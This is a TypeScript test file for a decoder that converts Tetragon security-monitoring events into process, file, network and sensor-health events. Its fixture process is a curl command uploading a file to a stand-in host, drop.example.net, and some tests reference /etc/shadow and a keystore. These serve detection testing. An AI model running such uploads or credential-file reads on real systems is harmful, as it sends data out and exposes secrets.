import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { samplesAt } from '../../../test/support/samples.ts';
import type { WatchEvent } from '../../events/event.ts';
import { ID_UNSET, TTY_UNKNOWN } from '../../events/host-events.ts';
import { readRecords } from '../json-lines/replay.test-support.ts';

const decode = (...records: unknown[]) => readRecords('tetragon', records);
const only = <K extends WatchEvent['kind']>(kind: K, ...records: unknown[]): WatchEvent & { kind: K } => {
  const found = decode(...records).events.filter(event => event.kind === kind);
  assert.equal(found.length, 1, kind);
  return found[0] as WatchEvent & { kind: K };
};
const kinds = (...records: unknown[]) => decode(...records).events.map(event => event.kind);

const AT = 1795253830123.456;
const process = (more: object = {}) => ({
  exec_id: 'd3MzOjE6NDEw',
  pid: 410,
  uid: 1003,
  cwd: '/home/clerk/',
  binary: '/usr/bin/curl',
  arguments: '-T "my file.tgz" http://drop.example.net/',
  flags: 'execve clone',
  start_time: '2026-11-21T09:37:10.000000001Z',
  auid: 4294967295,
  ...more,
});
const PARENT = {
  exec_id: 'd3MzOjA6NDAw',
  pid: 400,
  uid: 1003,
  cwd: '/',
  binary: '/usr/bin/bash',
  start_time: '2026-11-21T09:00:00Z',
  flags: 'procFS',
};
const envelope = (kind: string, body: object, time = '2026-11-21T09:37:10.123456789Z') => ({
  [kind]: { parent: PARENT, ...body },
  node_name: 'ws3',
  time,
});
const probe = (name: string, args: readonly object[], more: object = {}) =>
  envelope('process_kprobe', { process: process(), function_name: name, args, ...more });

test('an execution: its parent is told of once, arguments in pieces behind the program’s name, the effective user', () => {
  const exec = envelope('process_exec', { process: process() });
  assert.deepEqual(
    kinds(
      exec,
      envelope('process_exec', { process: process({ exec_id: 'x', start_time: '2026-11-21T09:38:00Z', pid: 411 }) }),
    ),
    ['process.listed', 'process.started', 'process.started'],
  );
  const started = only('process.started', exec);
  assert.equal(started.time, AT);
  assert.equal(started.host, 'ws3');
  assert.deepEqual(started.argv, ['/usr/bin/curl', '-T', 'my file.tgz', 'http://drop.example.net/']);
  assert.deepEqual([started.argvJoined, started.cwd, started.file.path], [true, '/home/clerk', '/usr/bin/curl']);
  assert.deepEqual(started.actor, {
    pid: 410,
    ppid: 400,
    uid: 1003,
    euid: 1003,
    auid: ID_UNSET,
    ses: -1,
    tty: TTY_UNKNOWN,
    comm: 'curl',
    exe: '/usr/bin/curl',
  });
  const credentials = only(
    'process.started',
    envelope('process_exec', {
      process: process({ uid: 0, process_credentials: { uid: 1003 }, flags: 'execve truncArgs' }),
    }),
  );
  assert.deepEqual([credentials.actor.uid, credentials.actor.euid, credentials.argvCut], [1003, 0, true]);
});

test('a pid that stands for another process ends the one before; another program of the same process does not', () => {
  const next = (flags: string) =>
    envelope(
      'process_exec',
      { process: process({ exec_id: 'other', flags, start_time: '2026-11-21T09:37:20Z' }) },
      '2026-11-21T09:37:20Z',
    );
  const first = envelope('process_exec', { process: process() });
  assert.deepEqual(kinds(first, next('execve clone')).filter(kind => kind === 'process.exited').length, 1);
  assert.deepEqual(kinds(first, next('execve')).filter(kind => kind === 'process.exited').length, 0);
  const late = envelope('process_exit', { process: process() }, '2026-11-21T09:37:21Z');
  assert.equal(
    kinds(first, next('execve clone'), late).filter(kind => kind === 'process.exited').length,
    1,
    'a late end',
  );
});

test('what ran before Tetragon is listed, and what was not seen to start is told of when it acts', () => {
  assert.deepEqual(kinds(envelope('process_exec', { process: process({ flags: 'procFS' }) })), [
    'process.listed',
    'process.listed',
  ]);
  const read = probe('security_file_permission', [
    { file_arg: { path: '/home/clerk/x', permission: '-rwxr-x---' } },
    { int_arg: 4 },
  ]);
  assert.deepEqual(kinds(read, read), ['process.listed', 'process.listed', 'file.opened']);
  const opened = only('file.opened', read);
  assert.deepEqual([opened.access, opened.file.mode, opened.actor.pid], ['read', 0o750, 410]);
});

test('functions of file policies', () => {
  const write = only(
    'file.opened',
    probe('security_file_permission', [{ file_arg: { path: 'etc/x' } }, { int_arg: 2 }]),
  );
  assert.deepEqual([write.access, write.file.path], ['write', '/etc/x']);
  const cut = only('file.opened', probe('security_path_truncate', [{ path_arg: { path: '/tmp/x' } }]));
  assert.deepEqual([cut.access, cut.truncated], ['write', true]);
  const mapped = only(
    'file.opened',
    probe('security_mmap_file', [{ file_arg: { path: '/tmp/x' } }, { uint_arg: 3 }, { uint_arg: 1 }]),
  );
  assert.equal(mapped.access, 'write');
  const call = only(
    'file.opened',
    probe('__x64_sys_openat', [{ int_arg: -100 }, { string_arg: 'x' }, { int_arg: 0o302 }], { return: { int_arg: 5 } }),
  );
  assert.deepEqual(
    [call.access, call.created, call.file.path],
    ['readwrite', true, '?/x'],
    'a relative name stays one',
  );
  const moved = only(
    'file.renamed',
    probe('__arm64_sys_renameat2', [
      { int_arg: -100 },
      { string_arg: '/a' },
      { int_arg: -100 },
      { string_arg: '/b' },
      { uint_arg: 0 },
    ]),
  );
  assert.deepEqual([moved.from.path, moved.to.path], ['/a', '/b']);
  assert.equal(only('file.deleted', probe('sys_unlink', [{ string_arg: '/a' }])).file.path, '/a');
  const denied = probe('security_file_permission', [{ file_arg: { path: '/x' } }, { int_arg: 4 }], {
    return: { int_arg: -13 },
  });
  assert.deepEqual(decode(denied).verdicts, ['skip']);
  const hook = envelope('process_lsm', {
    process: process(),
    function_name: 'file_open',
    args: [{ file_arg: { path: '/etc/shadow' } }],
  });
  assert.equal(only('file.opened', hook).file.path, '/etc/shadow');
});

test('connections of policies and of the observed sockets, with what went over them', () => {
  const sock = { family: 'AF_INET', daddr: '203.0.113.7', dport: 443, saddr: '192.0.2.7', sport: 50000 };
  const asked = only('network.connected', probe('tcp_connect', [{ sock_arg: sock }]));
  assert.deepEqual([asked.address, asked.port, asked.outcome], ['203.0.113.7', 443, 'in-progress']);
  const six = only(
    'network.connected',
    probe('security_socket_connect', [
      { sockaddr_arg: { family: 'AF_INET6', addr: '2001:db8::7', port: 25 } },
      { int_arg: 28 },
    ]),
  );
  assert.deepEqual([six.family, six.address, six.port], ['ipv6', '2001:db8::7', 25]);
  const local = only(
    'network.connected',
    probe('security_socket_connect', [{ sockaddrun_arg: { family: 'AF_UNIX', path: '/run/x' } }]),
  );
  assert.deepEqual([local.family, local.address], ['unix', '/run/x']);
  const ends = {
    source_ip: '192.0.2.7',
    source_port: 50000,
    destination_ip: '203.0.113.7',
    destination_port: 25,
    protocol: 'TCP',
  };
  const open = envelope('process_connect', { process: process(), ...ends });
  const close = envelope(
    'process_close',
    { process: process(), ...ends, stats: { bytes_sent: '731802', bytes_received: '90' } },
    '2026-11-21T09:37:12Z',
  );
  const flow = only('flow.ended', open, close);
  assert.deepEqual([flow.bytesOut, flow.bytesIn, flow.counted, flow.startTime], [731802, 90, 'payload', AT]);
  assert.deepEqual(
    decode(close).events.filter(event => event.kind === 'flow.ended'),
    [],
    'its beginning was not seen',
  );
});

test('what was not told is counted', () => {
  const lost = {
    rate_limit_info: { number_of_dropped_process_events: '12' },
    node_name: 'ws3',
    time: '2026-11-21T09:37:12Z',
  };
  const health = only('sensor.health', lost);
  assert.deepEqual([health.what, health.count], ['rate-limited', 12]);
});

test('hostile values become unknown ones, and nothing throws', () => {
  for (const bad of [null, 7, 'x', [], [null], { process: 1 }, { process: { pid: {}, binary: [], start_time: 5 } }])
    for (const kind of ['process_exec', 'process_exit', 'process_kprobe', 'process_close', 'rate_limit_info'])
      decode({ [kind]: bad, time: '2026-11-21T09:37:12Z', node_name: bad });
  const odd = only(
    'process.started',
    envelope('process_exec', {
      parent: 3,
      process: process({ pid: -1, uid: 'x', binary: 'a\u0000b', arguments: '"'.repeat(90_000) }),
    }),
  );
  assert.deepEqual([odd.actor.pid, odd.actor.uid, odd.actor.ppid], [-1, -1, -1]);
  assert.deepEqual(decode(envelope('process_exec', {})).verdicts, ['reject']);
  assert.deepEqual(decode(envelope('process_exec', { process: process() }, 'soon')).verdicts, ['reject']);
});

const samples = samplesAt('tetragon');

test("Tetragon's own examples: every event is understood", { skip: samples.skip }, () => {
  const records = ['00_four_golden_signals', '00_process_lifecycle'].flatMap(folder =>
    readdirSync(join(samples.folder, folder)).map(
      name => JSON.parse(readFileSync(join(samples.folder, folder, name), 'utf8')) as Record<string, unknown>,
    ),
  );
  assert.equal(records.length, 15);
  assert.ok(records.every(record => decode(record).verdicts[0] !== 'reject'));
  const told = new Set(records.flatMap(record => kinds(record)));
  for (const kind of ['process.started', 'process.exited', 'file.opened', 'network.connected'] as const)
    assert.ok(told.has(kind), kind);
  const reads = records.flatMap(record => decode(record).events).filter(event => event.kind === 'file.opened');
  assert.deepEqual(reads.map(event => event.file.path).sort(), [
    '/etc/passwd',
    '/usr/share/elasticsearch/config/elasticsearch.keystore',
  ]);
});
